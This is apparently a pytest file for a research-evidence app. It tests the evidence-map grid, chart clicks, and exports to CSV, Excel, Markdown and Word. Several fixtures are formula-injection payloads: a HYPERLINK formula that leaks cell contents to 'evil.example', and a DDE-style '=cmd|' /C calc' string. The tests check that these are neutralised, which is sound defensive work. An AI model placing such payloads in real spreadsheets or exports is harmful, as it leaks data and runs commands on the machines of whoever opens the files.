"""The evidence map's grid, the reading of a click on it, and the exports of evidence tables and answers.

Nothing here embeds: passages and answers are built by hand, and every file is reopened with
the library a reader's spreadsheet or word processor stands for (csv, openpyxl, python-docx).
"""

from __future__ import annotations

import csv
import io

import docx
import openpyxl
import pytest

from app.ui_map import clicked_cell, map_chart
from index.models import EvidenceRecord, Passage, SourceInfo
from rag.evidence_map import COMPONENTS, UNKNOWN, MapAxis, evidence_map
from rag.exports import (
    answer_docx,
    evidence_csv,
    evidence_markdown,
    evidence_xlsx,
    map_csv,
    spreadsheet_safe,
)
from rag.models import Answer, AnswerSection, AnswerSentence, Citation, EvidenceProfile, Gap

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SOURCES = {
    "eng": SourceInfo(source_id="eng", authors="Ames A; Bell B", year="2021", title="A", country="England",
                      design="realist review"),
    "sco": SourceInfo(source_id="sco", year="2019", title="B", country="Scotland", design="case study"),
    "int": SourceInfo(source_id="int", year="n.d.", title="C", country="international"),
    "bare": SourceInfo(source_id="bare"),
}  # fmt: skip


def coded(record_id: str, component: str, source_id: str, context: str = "Joint boards") -> Passage:
    """A coded-evidence passage of one record, with its publication's details."""
    record = EvidenceRecord(record_id=record_id, component=component, context=context, source_id=source_id)
    text = f"Coded evidence {record_id}. Context: {context}"
    return Passage(
        passage_id=record_id.lower(),
        doc_id="coded",
        kind="evidence",
        text=text,
        start=0,
        end=len(text),
        source_id=source_id,
        record=record,
        source=SOURCES[source_id],
    )


PASSAGES = [
    coded("E1", "creating the conditions", "eng"),
    coded("E2", "Creating  the Conditions", "eng"),
    coded("E3", "general", "eng"),
    coded("S1", "creating the conditions", "sco"),
    coded("I1", "working with power", "int"),
    coded("B1", "trust", "bare"),
    Passage(passage_id="review", doc_id="r", kind="markdown", text="Review text.", start=0, end=12, source_id="eng",
            source=SOURCES["eng"]),
]  # fmt: skip


def test_map_counts_records_and_publications_with_every_gap_shown() -> None:
    grid = evidence_map(PASSAGES)
    assert grid.rows == [*COMPONENTS, "trust"]  # an uncatalogued component gets a row rather than vanishing
    assert grid.columns == ["England", "Scotland", "international", UNKNOWN]
    assert len(grid.cells) == len(grid.rows) * len(grid.columns)
    cell = {(c.component, c.column): c for c in grid.cells}
    assert (
        cell["creating the conditions", "England"].records,
        cell["creating the conditions", "England"].publications,
    ) == (2, 1)
    assert cell["creating the conditions", "England"].record_ids == ["E1", "E2"]  # case and spacing do not split a row
    assert cell["trust", UNKNOWN].source_ids == ["bare"]
    assert cell["taking a wider view", "England"].records == 0  # a gap is a cell with nothing in it
    assert (grid.records, grid.publications) == (6, 4)  # the review passage is not a coded record


@pytest.mark.parametrize(
    ("by", "columns"),
    [("design", ["case study", "realist review", UNKNOWN]), ("year", ["2019", "2021", UNKNOWN])],
)
def test_map_by_design_or_year_puts_a_publication_that_does_not_say_under_unknown(
    by: MapAxis, columns: list[str]
) -> None:
    grid = evidence_map(PASSAGES, by)
    assert grid.columns == columns
    # 'int' has no design and an 'n.d.' year, 'bare' has neither: their records are counted, not dropped.
    assert sum(c.records for c in grid.cells if c.column == UNKNOWN) == 2


def test_chart_draws_every_cell_and_a_click_names_its_cell() -> None:
    grid = evidence_map(PASSAGES)
    spec = map_chart(grid).to_dict()
    assert spec["layer"][0]["encoding"]["y"]["sort"] == grid.rows
    assert spec["params"][0]["select"]["fields"] == ["component", "column"]
    # What Streamlit reports for a click on a cell, and for a click that clears the selection.
    state = {"selection": {"cell": [{"component": "creating the conditions", "column": "England"}]}}
    assert clicked_cell(grid, state) == ("creating the conditions", "England")
    assert clicked_cell(grid, {"selection": {"cell": []}}) is None


def test_chart_shows_names_that_start_like_a_formula_as_text_and_a_click_finds_their_cell() -> None:
    hostile = coded("X1", "-2+3", "eng").model_copy(update={"source": SourceInfo(source_id="eng", country="=cmd")})
    grid = evidence_map([hostile])
    spec = map_chart(grid).to_dict()
    data = next(iter(spec["datasets"].values()))
    assert {(row["component"], row["column"]) for row in data if row["records"]} == {("'-2+3", "'=cmd")}
    state = {"selection": {"cell": [{"component": "'-2+3", "column": "'=cmd"}]}}
    assert clicked_cell(grid, state) == ("-2+3", "=cmd")


def hostile_passages() -> list[Passage]:
    """Two records, one whose context is a spreadsheet formula, as a hostile coded-evidence CSV gives it."""
    return [coded("E1", "general", "eng", context=FORMULA), coded("S1", "working with power", "sco", "- a list")]


def test_xlsx_reopens_with_a_records_and_a_publications_sheet_and_formulas_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(evidence_xlsx(hostile_passages())))
    assert book.sheetnames == ["Records", "Publications"]
    records = list(book["Records"].iter_rows(values_only=True))
    assert records[0][:3] == ("record", "component", "context")
    assert [row[0] for row in records[1:]] == ["E1", "S1"]
    cell = book["Records"]["C2"]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA  # text, never a formula
    assert book["Records"]["C3"].value == "'- a list"
    publications = list(book["Publications"].iter_rows(values_only=True))
    assert [(row[0], row[-1]) for row in publications[1:]] == [("eng", 1), ("sco", 1)]


def test_csv_markdown_and_map_csv_defuse_formulas() -> None:
    rows = list(csv.DictReader(io.StringIO(evidence_csv(hostile_passages()))))
    assert [row["record"] for row in rows] == ["E1", "S1"]
    assert rows[0]["context"] == "'" + FORMULA and rows[0]["country"] == "England"
    markdown = evidence_markdown(hostile_passages())
    assert "| E1 | general | '=HYPERLINK" in markdown and "## Publications" in markdown
    hostile_country = coded("X1", "general", "eng").model_copy(
        update={"source": SourceInfo(source_id="eng", country="=cmd|' /C calc'!A0")}
    )
    lines = map_csv(evidence_map([hostile_country])).splitlines()
    assert lines[0] == "component,country,records,publications"
    assert "general,'=cmd|' /C calc'!A0,1,1" in lines
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe(3) == 3


def citation(n: int, quote: str, **details: object) -> Citation:
    """A citation of a quote, with whatever publication details the test gives."""
    return Citation(n=n, passage_id=f"p{n}", source_id="eng", quote=quote, start=0, end=len(quote), score=1.0,
                    **details)  # fmt: skip


def test_docx_holds_the_answer_every_reference_and_every_quote() -> None:
    citations = [
        citation(1, "Leaders build a shared purpose\nbefore structures.", authors="Ames A", year="2021",
                 title="Leading care", section="Findings", page=4, doi="10.1/x"),
        citation(2, "=SUM(A1) is how the handout began.", title="Handout"),
    ]  # fmt: skip
    answer = Answer(
        question="How do leaders build a shared purpose?",
        answer="Leaders build a shared purpose before structures. [1] =SUM(A1) is how the handout began. [2]",
        sentences=[AnswerSentence(text="Leaders build a shared purpose before structures.", citations=[1])],
        citations=citations,
        sections=[
            AnswerSection(heading="What works", sentences=[AnswerSentence(text="Leaders build it.", citations=[1])]),
            AnswerSection(heading="In practice", sentences=[AnswerSentence(text="The handout.", citations=[2])]),
        ],
        gaps=[Gap(part="Wales", note="The indexed evidence says nothing about Wales.")],
        evidence=EvidenceProfile(publications=1, records=0, line="Evidence: 1 publication (a realist review)."),
        settings_hash="abc123",
    )
    document = docx.Document(io.BytesIO(answer_docx(answer)))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    for c in citations:
        assert " ".join(c.quote.split()) in text
    assert "[1] Ames A (2021). Leading care. §Findings, p. 4. https://doi.org/10.1/x" in text
    assert "[2] eng (n.d.). Handout" in text
    for piece in ("What works", "Leaders build it. [1]", "The handout. [2]", "says nothing about Wales",
                  "Evidence: 1 publication"):  # fmt: skip
        assert piece in text


def test_docx_of_an_abstention_lists_related_evidence_not_references() -> None:
    answer = Answer(
        question="What about the US?",
        answer="The indexed evidence does not cover this question.",
        abstained=True,
        related=[citation(1, "Closest passage text.")],
    )
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(answer_docx(answer))).paragraphs)
    assert "does not cover this question" in text and "Related evidence (not cited as support)" in text
    assert "Closest passage text." in text and "References" not in text
